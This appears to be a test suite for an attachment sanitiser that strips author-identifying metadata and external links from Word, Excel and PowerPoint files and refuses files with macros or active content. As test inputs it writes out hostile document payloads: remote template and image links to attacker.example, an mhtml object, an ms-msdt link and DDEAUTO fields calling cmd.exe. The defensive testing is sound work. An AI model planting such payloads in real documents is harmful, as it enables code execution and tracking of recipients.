import { unzipSync } from 'fflate';
import { examineFile } from '../../src/attachments/examine-file.js';
import type { AttachmentKind } from '../../src/domain/attachments/attachment.js';
import { authorName, sampleDocx, samplePptx, sampleXlsx } from '../support/sample-files.js';

type Parts = Readonly<Record<string, string | Uint8Array>>;

const documents: Readonly<Record<string, (more: Parts) => Buffer>> = {
  docx: sampleDocx,
  xlsx: sampleXlsx,
  pptx: samplePptx,
};

/** The code of the refusal of a document with more parts than usual; `taken` where there is none. */
function codeOf(kind: AttachmentKind, more: Parts): string {
  const examined = examineFile(documents[kind]?.(more) ?? Buffer.alloc(0), kind);
  return examined.ok ? 'taken' : examined.refusal.code;
}

/** The parts of a document with more than usual, as they are kept, by name; kept once more, it is the same. */
function keptParts(kind: AttachmentKind, more: Parts): ReadonlyMap<string, string> {
  const examined = examineFile(documents[kind]?.(more) ?? Buffer.alloc(0), kind);
  if (!examined.ok) throw new Error(examined.refusal.code);
  const again = examineFile(examined.value.bytes, kind);
  expect(again).toMatchObject({ ok: true, value: { digest: examined.value.digest } });
  const parts = Object.entries(unzipSync(examined.value.bytes));
  return new Map(parts.map(([name, part]) => [name, Buffer.from(part).toString('latin1')]));
}

const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationships = (...each: readonly string[]): string =>
  `<Relationships xmlns="x">${each.join('')}</Relationships>`;
const internal = (id: string, kind: string, target: string): string =>
  `<Relationship Id="${id}" Type="${type}/${kind}" Target="${target}"/>`;
const external = (id: string, kind: string, target: string): string =>
  `<Relationship Id="${id}" Type="${type}/${kind}" Target="${target}" TargetMode="External"/>`;

test('settings of a printer go, with all that mentions them', () => {
  const types =
    '<Types><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/><Override PartName="/xl/printerSettings/printerSettings1.bin" ContentType="x"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>';
  const kept = keptParts('xlsx', {
    '[Content_Types].xml': types,
    'xl/worksheets/sheet1.xml':
      '<worksheet><drawing r:id="rId2"/><pageSetup paperSize="9" r:id="rId1"/></worksheet>',
    'xl/worksheets/_rels/sheet1.xml.rels': relationships(
      internal('rId1', 'printerSettings', '../printerSettings/printerSettings1.bin'),
      internal('rId2', 'drawing', '../drawings/drawing1.xml'),
    ),
    'xl/printerSettings/printerSettings1.bin': Buffer.from(`\\\\server\\${authorName}`, 'utf16le'),
  });
  expect([...kept.keys()].filter((name) => name.includes('printer'))).toStrictEqual([]);
  expect([...kept.values()].join('')).not.toContain('printer');
  expect(kept.get('xl/worksheets/sheet1.xml')).toBe(
    '<worksheet><drawing r:id="rId2"/><pageSetup paperSize="9"/></worksheet>',
  );
  expect(kept.get('xl/worksheets/_rels/sheet1.xml.rels')).toBe(
    relationships(internal('rId2', 'drawing', '../drawings/drawing1.xml')),
  );
});

test('so they do under another name, and in documents of Word', () => {
  const kept = keptParts('docx', {
    'word/document.xml':
      '<w:document><w:sectPr><w:printerSettings r:id="a"/></w:sectPr></w:document>',
    'word/_rels/document.xml.rels': relationships(internal('a', 'printerSettings', 'p/x.bin')),
    'word/p/x.bin': authorName,
  });
  expect(kept.has('word/p/x.bin')).toBe(false);
  expect(kept.get('word/document.xml')).toBe('<w:document><w:sectPr></w:sectPr></w:document>');
});

test('a template goes, wherever it lies, with what mentions it', () => {
  for (const target of [
    'https://attacker.example/x.dotm',
    `file:///C:\\Users\\${authorName}\\a.dotx`,
  ]) {
    const kept = keptParts('docx', {
      'word/settings.xml':
        '<w:settings><w:attachedTemplate r:id="t"/><w:zoom w:percent="100"/></w:settings>',
      'word/_rels/settings.xml.rels': relationships(external('t', 'attachedTemplate', target)),
    });
    expect(kept.get('word/settings.xml')).toBe(
      '<w:settings><w:zoom w:percent="100"/></w:settings>',
    );
    expect(kept.get('word/_rels/settings.xml.rels')).toBe(relationships());
  }
});

const rels = 'word/_rels/document.xml.rels';
const gone = (kind: string): string => relationships(external('h', kind, 'file:///removed'));

test.each([
  ['a folder of OneDrive', 'hyperlink', 'https://x-my.sharepoint.com/personal/taro_x_jp/a.docx'],
  ['one that is shared', 'hyperlink', 'https://x-my.sharepoint.com/:w:/p/taro_x_jp/EaBc'],
  ['one on an own server', 'hyperlink', 'https://mysite.example/personal/taro/Documents/a.docx'],
  ['one spelt in codes', 'hyperlink', 'https://my.example/%2570ersonal%2Ftaro/a.docx'],
  ['one spelt in signs of XML', 'hyperlink', 'https://my.example/&#112;ersonal&#x2f;taro/a.docx'],
  ['a store of a private account', 'hyperlink', 'https://d.docs.live.net/0a1b2c/a.docx'],
  ['a file of an own computer', 'hyperlink', `file:///C:/Users/${authorName}/a.docx`],
  ['a path without a scheme', 'hyperlink', 'C:\\Users\\taro\\a.docx'],
  ['a path beside the document', 'hyperlink', '../../Users/taro/a.docx'],
  ['a server nearby', 'hyperlink', '\\\\server\\taro\\a.docx'],
  ['an account in an address', 'hyperlink', 'https://taro:secret@www.example/'],
  ['a program', 'hyperlink', 'ms-msdt:/id PCWDiagnostic'],
  ['a picture that would be fetched', 'image', 'https://attacker.example/seen.png?who=R8-0001'],
  ['an object that would be fetched', 'oleObject', 'mhtml:http://attacker.example/x!x'],
  ['a frame', 'frame', 'https://attacker.example/'],
  ['a workbook that is linked', 'externalLinkPath', 'https://x.sharepoint.com/a.xlsx'],
])('a link to %s leads nowhere afterwards', (_said, kind, target) => {
  const kept = keptParts('docx', { [rels]: relationships(external('h', kind, target)) });
  expect(kept.get(rels)).toBe(gone(kind));
});

test.each([
  'https://www.example.lg.jp/home/users/a.html?b=c&amp;d=e',
  'mailto:kikaku@example.lg.jp',
  'tel:0839000000',
  '#Sheet2!A1',
])('a link to %s stays as it is', (target) => {
  const text = relationships(external('h', 'hyperlink', target));
  expect(keptParts('docx', { [rels]: text }).get(rels)).toBe(text);
});

test('a relationship is seen whatever its quotes, its order and its prefix', () => {
  const odd = `<a:Relationship Target='file:///C:/Users/${authorName}>x' Id="h" TargetMode='External' Type="${type}/hyperlink"></a:Relationship>`;
  const kept = keptParts('docx', { [rels]: relationships(odd) });
  expect(kept.get(rels)).toContain('Target="file:///removed"');
  const broken = '<Relationship Id="h" Target="a<b"/>';
  expect(codeOf('docx', { [rels]: relationships(broken) })).toBe('attachment-names-author');
});

test('small pictures of earlier states and what editing left go', () => {
  const kept = keptParts('docx', {
    '_rels/.rels': relationships(
      internal('a', 'officeDocument', 'word/document.xml'),
      `<Relationship Id="b" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" Target="docProps/thumbnail.emf"/>`,
    ),
    'docProps/thumbnail.emf': authorName,
    '[trash]/0000.dat': authorName,
  });
  expect(kept.get('_rels/.rels')).toBe(
    relationships(internal('a', 'officeDocument', 'word/document.xml')),
  );
  expect([...kept.keys()].filter((name) => /thumbnail|trash/.test(name))).toStrictEqual([]);
});

test('a main part stays, whatever a relationship calls it', () => {
  const kept = keptParts('docx', {
    [rels]: relationships(internal('a', 'printerSettings', 'document.xml')),
  });
  expect(kept.has('word/document.xml')).toBe(true);
});

const instruction = (words: string): string =>
  `<w:document><w:instrText xml:space="preserve">${words}</w:instrText></w:document>`;

test.each<[string, AttachmentKind, Parts, string]>([
  [
    'a pivot table by whom it was refreshed',
    'xlsx',
    {
      'xl/pivotCache/p.xml': `<pivotCacheDefinition refreshedBy="${authorName}" refreshedDate="1"/>`,
    },
    '<pivotCacheDefinition refreshedBy="" refreshedDate="1"/>',
  ],
  [
    'views of a shared workbook by whose they are',
    'xlsx',
    {
      'xl/w.xml': `<a><customWorkbookView guid="1" name="${authorName} - view"/><customWorkbookView name='${authorName}' b=""/></a>`,
    },
    '<a><customWorkbookView guid="1" name="view1"/><customWorkbookView name="view2" b=""/></a>',
  ],
  [
    'a connection by its account and its file',
    'xlsx',
    {
      'xl/c.xml': `<dbPr connection="Provider=x;User ID=${authorName};Password=y;Data Source=C:\\Users\\${authorName}\\a.mdb"/>`,
    },
    '<dbPr connection="Provider=x;User ID=;Password=;Data Source=C:\\Users\\removed\\a.mdb"/>',
  ],
  [
    'a connection that is opened by itself',
    'xlsx',
    { 'xl/c.xml': '<connections><connection id="1" refreshOnLoad="1"/></connections>' },
    '<connections><connection id="1" refreshOnLoad="0"/></connections>',
  ],
  [
    'an add-in that is opened by itself',
    'docx',
    { '_rels/.rels': relationships(internal('a', 'webextensiontaskpanes', 'w/t.xml')) },
    relationships(),
  ],
  [
    'a field by the folder of a picture',
    'docx',
    { 'word/f.xml': instruction(` INCLUDEPICTURE "C:\\\\Users\\\\${authorName}\\\\a.png" `) },
    instruction(' INCLUDEPICTURE "C:\\\\Users\\\\removed\\\\a.png" '),
  ],
  [
    'a creator in a part of another name',
    'docx',
    { 'docProps/x.xml': `<dc:creator><![CDATA[${authorName}]]></dc:creator>` },
    '<dc:creator></dc:creator>',
  ],
  [
    'a drawing by what its program writes',
    'docx',
    {
      'word/media/a.svg': `<svg sodipodi:docname="${authorName}.svg"><!-- ${authorName} --><metadata id="m"><dc:title>${authorName}</dc:title></metadata><image xlink:href="http://a.example/"/><path/></svg>`,
    },
    '<svg><image xlink:href="#"/><path/></svg>',
  ],
  [
    'an old drawing by where its picture was',
    'xlsx',
    {
      'xl/d.vml': `<v:imagedata o:relid="r" src="http://a.example/x" o:href="file:///${authorName}"/>`,
    },
    '<v:imagedata o:relid="r"/>',
  ],
])('%s names nobody', (_said, kind, more, clean) => {
  const [name = ''] = Object.keys(more);
  expect(keptParts(kind, more).get(name)).toBe(clean);
});

test('properties are emptied whatever the name of their part', () => {
  const kept = keptParts('docx', {
    'docProps/Custom2.xml': `<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property><vt:lpwstr>${authorName}</vt:lpwstr></property></Properties>`,
    'x/core.xml': `<cp:coreProperties><dc:title>${authorName}</dc:title></cp:coreProperties>`,
  });
  expect([...kept.values()].join('')).not.toContain(authorName);
});

const compound = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);

test.each<[string, AttachmentKind, Parts, string]>([
  ['macros under another name', 'docx', { 'word/x.bin': compound }, 'attachment-names-author'],
  [
    'macros by their relationship',
    'docx',
    { [rels]: relationships(internal('m', 'vbaProject', 'x.xml')) },
    'attachment-macros',
  ],
  [
    'macros whose type is spelt in codes',
    'docx',
    {
      '[Content_Types].xml':
        '<Types><Override PartName="/a" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/b" ContentType="application/vnd.ms-word.document.m&#97;croEnabled.main+xml"/></Types>',
    },
    'attachment-ending-differs',
  ],
  [
    'sheets of old macros by their type',
    'xlsx',
    {
      '[Content_Types].xml':
        '<Types><Override PartName="/a" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/b" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    },
    'attachment-macros',
  ],
  [
    'a field that runs a program',
    'docx',
    { 'word/f.xml': instruction('DDEAUTO c:\\\\cmd.exe') },
    'attachment-macros',
  ],
  [
    'one that is put together',
    'docx',
    {
      'word/f.xml':
        '<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:p>',
    },
    'attachment-macros',
  ],
  [
    'a link that runs a program',
    'xlsx',
    { 'xl/l.xml': '<ddeLink ddeService="cmd"/>' },
    'attachment-macros',
  ],
  [
    'a drawing with a script',
    'docx',
    { 'word/media/a.svg': '<svg><script/></svg>' },
    'attachment-macros',
  ],
  ['a signature', 'docx', { '_xmlsignatures/sig1.xml': '<Signature/>' }, 'attachment-names-author'],
  [
    'another text that is taken in',
    'docx',
    { [rels]: relationships(internal('m', 'aFChunk', 'x.mht')) },
    'attachment-names-author',
  ],
  ['what nobody can look into', 'xlsx', { 'xl/model/item.data': 'x' }, 'attachment-names-author'],
  [
    'packed formulas',
    'xlsx',
    { 'customXml/item1.xml': '<DataMashup>x</DataMashup>' },
    'attachment-names-author',
  ],
  ['a picture of TIFF', 'docx', { 'word/media/a.tiff': 'II*\0' }, 'attachment-media-kind'],
  ['a film', 'pptx', { 'ppt/media/a.mp4': '\0\0\0\x18ftypmp42' }, 'attachment-media-kind'],
  ['half a picture', 'docx', { 'word/media/a.gif': 'GIF89a' }, 'attachment-media-kind'],
  [
    'a drawing with pictures in it',
    'docx',
    { 'word/media/a.svg': '<svg><image href="data:image/png;base64,AA"/></svg>' },
    'attachment-media-kind',
  ],
])('a document with %s is refused', (_said, kind, more, code) => {
  expect(codeOf(kind, more)).toBe(code);
});

test('fonts stay as they are', () => {
  const kept = keptParts('docx', { 'word/fonts/font1.odttf': Buffer.from([1, 2, 3]) });
  expect(kept.get('word/fonts/font1.odttf')).toBe('\x01\x02\x03');
});
